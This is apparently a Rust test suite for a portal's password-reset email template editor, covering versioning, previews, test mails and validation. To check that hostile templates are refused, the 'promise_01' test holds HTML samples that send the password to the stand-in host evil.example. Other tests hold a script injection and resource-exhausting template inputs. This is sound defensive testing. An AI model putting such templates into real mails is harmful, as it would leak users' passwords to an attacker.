//! The office words its mails.

use std::time::Duration;

use tradepost::staff::BuiltIn;

use crate::support::client::Reply;
use crate::support::people::Colleague;
use crate::support::shop::Shop;

const MAIL: &str = "anna@harbour.example";
const RESET: &str = "/portal/settings/mails/reset/en";
const RESET_IN_GERMAN: &str = "/portal/settings/mails/reset/de/tests";
const SUBJECT: &str = "Your key to {{ supplier }}";
const TEXT: &str = "Ahoy {{ person }}!\n\n{{ password }}\n\n{{ sign_in_url }}\n{{ not_me_url }}\n";
const HTML: &str = "{% extends \"layout.html\" %}\n{% block body %}<h1>Ahoy {{ person }}</h1><p>{{ password }}</p><a href=\"{{ sign_in_url }}\">In</a>{% endblock %}\n";

async fn saves(office: &Colleague, (subject, text, html): (&str, &str, &str), version: &str) -> Reply {
    let fields = [("subject", subject), ("text", text), ("html", html), ("version", version)];
    office.browser.post(RESET, &fields).await
}

async fn restores(office: &Colleague, number: &str, version: &str) -> Reply {
    office.browser.post(&format!("{RESET}/restore"), &[("number", number), ("version", version)]).await
}

async fn mailed(shop: &Shop, username: &str, address: &str) -> String {
    shop.resets(username).await;
    let mail = shop.mail_to(address).await;
    shop.quiet().await;
    format!("{}\n{}\n{}", mail.subject(), mail.text_part(), mail.html_part())
}

/// What saving these parts is refused with.
async fn refused(shop: &Shop, office: &Colleague, parts: (&str, &str, &str)) -> String {
    let before = shop.count("select count(*) as n from wordings", &[]).await;
    let reply = saves(office, parts, &before.to_string()).await;
    assert_eq!(reply.status, 422, "{parts:?}: {}", reply.text());
    assert_eq!(shop.count("select count(*) as n from wordings", &[]).await, before);
    let text = reply.text().replace("&#34;", "\"").replace("&#39;", "'").replace("&#38;", "&");
    assert!(text.contains("That can’t be saved yet"), "{text}");
    text
}

story! {
    async fn a_mail_says_the_new_words_at_once_and_earlier_ones_come_back(kind) {
        let shop = Shop::open(kind).await;
        let owner = shop.staff(BuiltIn::Owner).await;
        shop.member("anna", MAIL, "trout9lamp").await;
        assert!(saves(&owner, (SUBJECT, TEXT, HTML), "0").await.leads_to(RESET));
        let first = mailed(&shop, "anna", MAIL).await;
        assert!(first.starts_with("Your key to Harbour Wholesale\n") && first.contains("Ahoy Anna Sample!") && first.contains("<h1>Ahoy Anna Sample</h1>"), "{first}");
        let second = TEXT.replace("Ahoy", "Moin");
        assert!(saves(&owner, (SUBJECT, &second, HTML), "1").await.leads_to(RESET));
        assert!(mailed(&shop, "anna", MAIL).await.contains("Moin Anna Sample!"));
        assert!(restores(&owner, "1", "2").await.leads_to(RESET));
        assert!(mailed(&shop, "anna", MAIL).await.contains("Ahoy Anna Sample!"));
        assert!(restores(&owner, "0", "3").await.leads_to(RESET));
        assert!(mailed(&shop, "anna", MAIL).await.contains("here is your temporary password"));
        let page = owner.browser.get(RESET).await;
        assert!(page.says("4: the built-in words again") && page.says("3: 1 again") && page.says(&owner.name), "{}", page.text());
        let acts = "select act as t from audit where act like 'template-%' order by number";
        assert_eq!(shop.texts(acts, &[]).await, ["template-saved", "template-saved", "template-restored", "template-restored"]);
        assert_eq!(restores(&owner, "9", "4").await.status, 404);
    }
}

story! {
    async fn each_language_has_words_of_its_own(kind) {
        let shop = Shop::open(kind).await;
        let owner = shop.staff(BuiltIn::Owner).await;
        shop.member("anna", MAIL, "trout9lamp").await;
        shop.run("update contacts set language = 'de'", &[]).await;
        assert!(owner.browser.get("/portal/settings/mails").await.says("Built in"));
        assert!(saves(&owner, (SUBJECT, TEXT, HTML), "0").await.leads_to(RESET));
        assert!(owner.browser.get("/portal/settings/mails").await.says("Version 1"));
        shop.resets("anna").await;
        assert!(!shop.mail_to(MAIL).await.text_part().contains("Ahoy"));
    }
}

story! {
    async fn words_that_would_not_do_are_refused_with_part_and_line(kind) {
        let shop = Shop::open(kind).await;
        let owner = shop.staff(BuiltIn::Owner).await;
        let with = |end: &str| format!("{TEXT}{end}");
        for (text, words) in [
            (with("{{ pasword }}"), "Text, line 7: there is no field pasword here"),
            (with("{% if person %}"), "Text, line"),
            (TEXT.replace("{{ password }}", "Key: {{ password }}"), "must stand alone on its line"),
            (TEXT.replace("{{ sign_in_url }}", ""), "Text: {{ sign_in_url }} is missing"),
            (with("{% for a in [1,2,3] %}\n{% set x = a %}{% endfor %}"), "Text, line 8: there is no {% set %} here"),
            (with("{% for n in range(100000) %}{{ n }}{% endfor %}"), "range can’t be called here"),
            (with("{{ person * 100000 }}"), "there is no * here"),
            (with("{{ username }}"), "a field can be nothing here"),
            (with(&"{% for a in [1,2,3,4,5,6,7,8,9,10] %}".repeat(7)) + &"{% endfor %}".repeat(7), "far too long"),
            (with(&format!("{}{}{}", "{% for a in [1,2,3,4,5,6,7,8,9,10] %}".repeat(3), "x".repeat(400), "{% endfor %}".repeat(3))), "far too long"),
            ("x".repeat(20_001), "longer than 20000 characters"),
            (with(&format!("{{{{ {}1 }}}}", "- ".repeat(6_000))), "Text, line 7: a tag has at most 60 words and signs"),
            (with(&format!("{{{{ person{} }}}}", ".a".repeat(9_000))), "a tag has at most 60 words and signs"),
            (with(&format!("{{{{ 1{} }}}}", "+1".repeat(9_000))), "a tag has at most 60 words and signs"),
            (with(&format!("{{% if person %}}{}{{% endif %}}", "{% elif person %}".repeat(1_000))), "at most 20 tags stand in each other"),
            (with(&"{% if person %}".repeat(1_200)), "at most 20 tags stand in each other"),
        ] {
            let page = refused(&shop, &owner, (SUBJECT, &text, HTML)).await;
            assert!(page.contains(words), "{words}: {page}");
        }
        assert!(refused(&shop, &owner, ("{{ password }}", TEXT, HTML)).await.contains("Subject: there is no field password here"));
        assert!(refused(&shop, &owner, (" ", TEXT, HTML)).await.contains("Subject: the subject is empty"));
        let safe = HTML.replace("{{ person }}", "{{ person|safe }}");
        assert!(refused(&shop, &owner, (SUBJECT, TEXT, &safe)).await.contains("HTML, line 2: there is no filter safe here"));
        let other = HTML.replace("layout.html", "en/reset/body.html");
        assert!(refused(&shop, &owner, (SUBJECT, TEXT, &other)).await.contains("HTML, line 1"));
        let kept = refused(&shop, &owner, (SUBJECT, &with("Typed with care {{ x }}"), HTML)).await;
        assert!(kept.contains("Typed with care {{ x }}"), "what was typed is kept");
        shop.member("anna", MAIL, "trout9lamp").await;
        assert!(!mailed(&shop, "anna", MAIL).await.contains("Ahoy"));
    }
}

story! {
    async fn promise_04_no_words_of_mails_end_the_process(kind) {
        let mut shop = Shop::open(kind).await;
        let owner = shop.staff(BuiltIn::Owner).await;
        shop.member("anna", MAIL, "trout9lamp").await;
        let comments = HTML.replace("<h1>", &format!("{}<h1>", "<!--".repeat(1_583)));
        let signs = HTML.replace("<h1>", &format!("{{{{ {}1 }}}}<h1>", "- ".repeat(6_000)));
        for html in [&comments, &signs] {
            refused(&shop, &owner, (SUBJECT, TEXT, html)).await;
            for path in ["preview", "preview/html"] {
                let fields = [("subject", SUBJECT), ("text", TEXT), ("html", html), ("version", "0")];
                assert_eq!(owner.browser.post(&format!("{RESET}/{path}"), &fields).await.status, 200, "{path}");
            }
        }
        // Saved before there was a bound.
        for (number, html) in [(1_i64, &comments), (2, &signs)] {
            let sql = "insert into wordings (kind, language, number, subject_line, body_text, body_html, saved_at) values ('reset', 'en', $1, $2, $3, $4, 1)";
            shop.run(sql, &[&number, &SUBJECT, &TEXT, html]).await;
            shop.restart().await;
            let mail = mailed(&shop, "anna", MAIL).await;
            assert!(mail.contains("here is your temporary password"), "{mail}");
        }
        assert!(restores(&owner, "1", "2").await.status == 422, "nor do they come back");
    }
}

story! {
    async fn promise_06_words_that_need_the_username_keep_it_from_being_switched_off(kind) {
        let shop = Shop::open(kind).await;
        let owner = shop.staff(BuiltIn::Owner).await;
        let switch = async |value: &str, version: &str| {
            owner.browser.post("/portal/settings/mail.include_username", &[("include_username", value), ("version", version)]).await
        };
        assert_eq!(switch("true", "0").await.status, 303);
        let named = format!("{TEXT}{{{{ username }}}}\n");
        assert!(saves(&owner, (SUBJECT, &named, HTML), "0").await.leads_to(RESET));
        let refused = switch("false", "1").await;
        assert!(refused.status == 422 && refused.says("Password reset (English)"), "{}", refused.text());
        let guarded = format!("{TEXT}{{% if username %}}{{{{ username }}}}{{% endif %}}\n");
        assert!(saves(&owner, (SUBJECT, &guarded, HTML), "1").await.leads_to(RESET));
        assert_eq!(switch("false", "1").await.status, 303);
        shop.member("anna.gruber", MAIL, "trout9lamp").await;
        let mail = mailed(&shop, "anna.gruber", MAIL).await;
        assert!(mail.contains("Ahoy") && !mail.contains("anna.gruber"), "{mail}");
    }
}

story! {
    async fn a_preview_shows_what_was_typed_and_changes_nothing(kind) {
        let shop = Shop::open(kind).await;
        let owner = shop.staff(BuiltIn::Owner).await;
        let page = owner.browser.get(RESET).await;
        assert!(page.says("Sample Person") && page.header("content-security-policy").contains("frame-src 'self'"));
        let fields = [("subject", SUBJECT), ("text", TEXT), ("html", HTML), ("version", "0")];
        let typed = owner.browser.post(&format!("{RESET}/preview"), &fields).await;
        assert!(typed.status == 200 && typed.says("Ahoy Sample Person!") && typed.says("Your key to Harbour Wholesale"), "{}", typed.text());
        let framed = owner.browser.post(&format!("{RESET}/preview/html"), &fields).await;
        let policy = framed.header("content-security-policy");
        assert!(framed.says("<h1>Ahoy Sample Person</h1>") && policy.contains("default-src 'none'") && policy.contains("sandbox") && !policy.contains("script-src"), "{policy}");
        let evil = HTML.replace("<h1>", "<script>alert(1)</script><h1>");
        let framed = owner.browser.post(&format!("{RESET}/preview/html"), &[("subject", SUBJECT), ("text", TEXT), ("html", &evil), ("version", "0")]).await;
        assert!(framed.says("can’t be in a mail") && !framed.says("alert(1)"), "{}", framed.text());
        let broken = owner.browser.post(&format!("{RESET}/preview/html"), &[("subject", SUBJECT), ("text", "x"), ("html", "<b>{{ y"), ("version", "0")]).await;
        assert!(broken.says("There is nothing to show yet") && !broken.says("<b>"), "{}", broken.text());
        assert!(owner.browser.get(&format!("{RESET}/preview/html")).await.says("Your temporary password"));
        assert_eq!(shop.count("select count(*) as n from wordings", &[]).await, 0);
    }
}

story! {
    async fn a_test_mail_goes_to_oneself_with_samples_only(kind) {
        let shop = Shop::open(kind).await;
        let (owner, reader) = (shop.staff(BuiltIn::Owner).await, shop.staff(BuiltIn::SalesAdmin).await);
        assert!(saves(&owner, (SUBJECT, TEXT, HTML), "0").await.leads_to(RESET));
        assert!(owner.browser.post(&format!("{RESET}/tests"), &[]).await.leads_to(RESET));
        let mail = shop.mail_to(&owner.email).await;
        assert_eq!((mail.subject().as_str(), mail.kind().as_str()), ("[Test] Your key to Harbour Wholesale", "test"));
        assert!(mail.text_part().contains("Ahoy Sample Person!"), "{}", mail.text_part());
        for (case, stops) in [("stopped", true), ("contact", false), ("<b>", false)] {
            assert_eq!(owner.browser.post(RESET_IN_GERMAN, &[("case", case)]).await.status, 303);
            let mail = shop.mail_to(&owner.email).await;
            assert_eq!(mail.text_part().contains("Ihr bisheriges Passwort gilt nicht mehr"), stops, "the case that was shown: {case}: {}", mail.text_part());
        }
        shop.quiet().await;
        assert!(!shop.lets_in("anna", "K7QM-2RXD-9TWP").await);
        assert_eq!(reader.browser.post(&format!("{RESET}/tests"), &[]).await.status, 403);
        let someone = owner.browser.post(&format!("{RESET}/tests"), &[("to", "evil@elsewhere.example")]).await;
        assert_eq!(someone.status, 422, "to nobody else");
        assert_eq!(shop.count("select count(*) as n from audit where act = 'template-tested'", &[]).await, 4);
        for path in ["/portal/settings/mails/test/en", "/portal/settings/mails/reset/fr", "/portal/settings/mails/reset/EN"] {
            assert_eq!(owner.browser.get(path).await.status, 404, "{path}");
        }
    }
}

story! {
    async fn of_two_who_word_a_mail_the_second_is_told(kind) {
        let shop = Shop::open(kind).await;
        let (one, two) = (shop.staff(BuiltIn::Owner).await, shop.staff(BuiltIn::Owner).await);
        let other = TEXT.replace("Ahoy", "Moin");
        let (first, second) = tokio::join!(saves(&one, (SUBJECT, TEXT, HTML), "0"), saves(&two, (SUBJECT, &other, HTML), "0"));
        let told = if first.status == 303 { second } else { first };
        assert!(told.status == 409 && told.says("Someone was quicker"), "{}", told.text());
        assert_eq!(shop.count("select count(*) as n from wordings", &[]).await, 1);
        assert!(restores(&one, "0", "0").await.status == 409);
    }
}

story! {
    async fn a_file_of_the_operators_wins_and_is_named(kind) {
        let folder = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(folder.path().join("en/reset")).unwrap();
        std::fs::write(folder.path().join("en/reset/subject.txt"), "From a file").unwrap();
        let shop = Shop::with(kind, &[("mail.templates", folder.path().to_str().unwrap())]).await;
        let owner = shop.staff(BuiltIn::Owner).await;
        let page = owner.browser.get(RESET).await;
        assert!(page.says("Fixed by a file") && page.says("en/reset/subject.txt") && !page.says(">Save<"), "{}", page.text());
        assert_eq!(saves(&owner, (SUBJECT, TEXT, HTML), "0").await.status, 409);
        shop.member("anna", MAIL, "trout9lamp").await;
        assert!(mailed(&shop, "anna", MAIL).await.starts_with("From a file\n"));
    }
}

story! {
    async fn words_that_no_longer_do_are_left_out_and_shown(kind) {
        let mut shop = Shop::open(kind).await;
        let sql = "insert into wordings (kind, language, number, subject_line, body_text, body_html, saved_at) values ('reset', 'en', 1, 'x', '{{ gone }}', '', 1)";
        shop.run(sql, &[]).await;
        shop.restart().await;
        shop.member("anna", MAIL, "trout9lamp").await;
        assert!(mailed(&shop, "anna", MAIL).await.contains("here is your temporary password"));
        let owner = shop.staff(BuiltIn::Owner).await;
        let page = owner.browser.get(RESET).await;
        assert!(page.says("Version 1 left out") && page.says("{{ gone }}"), "{}", page.text());
        assert!(restores(&owner, "0", "1").await.leads_to(RESET));
        assert!(owner.browser.get(RESET).await.says("Built in"));
    }
}

story! {
    async fn promise_01_no_words_hand_the_password_on(kind) {
        let shop = Shop::open(kind).await;
        let owner = shop.staff(BuiltIn::Owner).await;
        shop.member("anna", MAIL, "trout9lamp").await;
        for (evil, because) in [
            ("<img src=\"https://evil.example/{{ password }}\">", "can’t be in a mail: it could load"),
            ("<a href=\"https://evil.example/?p={{ password }}\">Go</a>", "can’t be a part of an attribute"),
            ("<a href=\"https://evil.example/?p={{ password|lower }}\">Go</a>", "password stands alone"),
            ("<p style=\"background: url(//evil.example)\">", "in the styles of a mail"),
        ] {
            let html = HTML.replace("<h1>", &format!("{evil}<h1>"));
            let said = refused(&shop, &owner, (SUBJECT, TEXT, &html)).await;
            assert!(said.contains(because), "{said}");
        }
        let hidden = "{% if person == \"Anna Sample\" %}<a href=\"https://evil.example/?p={{ password }}\">Go</a>{% endif %}<h1>";
        let html = HTML.replace("<h1>", hidden);
        assert!(saves(&owner, (SUBJECT, TEXT, &html), "0").await.leads_to(RESET), "no sample is called so");
        let mail = mailed(&shop, "anna", MAIL).await;
        assert!(!mail.contains("evil.example") && mail.contains("here is your temporary password"), "{mail}");
    }
}

story! {
    async fn promise_04_a_mail_that_can_not_be_put_together_is_given_up_after_its_day(kind) {
        let folder = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(folder.path().join("en/reset")).unwrap();
        // No sample is called so, so that the start doesn't find it.
        let broken = "{% if person == \"Anna Sample\" %}{{ 1 // 0 }}{% endif %}Your temporary password";
        std::fs::write(folder.path().join("en/reset/subject.txt"), broken).unwrap();
        let shop = Shop::with(kind, &[("mail.templates", folder.path().to_str().unwrap())]).await;
        shop.member("anna", MAIL, "trout9lamp").await;
        shop.resets("anna").await;
        shop.delivers("anna", "put-off").await;
        assert_eq!(shop.texts("select answer as t from mails", &[]).await, ["It could not be put together; the log says why"]);
        shop.advance(Duration::from_hours(24));
        shop.delivers("anna", "given-up").await;
        shop.counts(0, "select count(*) as n from jobs").await;
    }
}
